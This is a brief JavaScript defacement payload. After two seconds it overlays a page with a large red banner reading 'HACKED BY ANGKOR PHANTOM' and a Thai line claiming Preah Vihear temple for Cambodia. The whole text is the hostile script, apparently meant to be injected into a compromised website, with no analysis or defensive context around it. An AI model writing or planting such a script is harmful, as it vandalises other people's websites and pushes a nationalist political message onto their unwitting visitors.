setTimeout(function () {
  var d = document.createElement('div');
  d.style.cssText = 'position:fixed;top:0;left:0;right:0;height:120px;z-index:9999;background:#b00000;color:#fff;text-align:center;font:700 40px/1.3 Loma,sans-serif;padding-top:10px';
  d.innerHTML = 'HACKED BY ANGKOR PHANTOM<br><span style="font-size:26px;color:#ffd400">ปราสาทพระวิหารเป็นของกัมพูชา</span>';
  document.body.appendChild(d);
}, 2000);

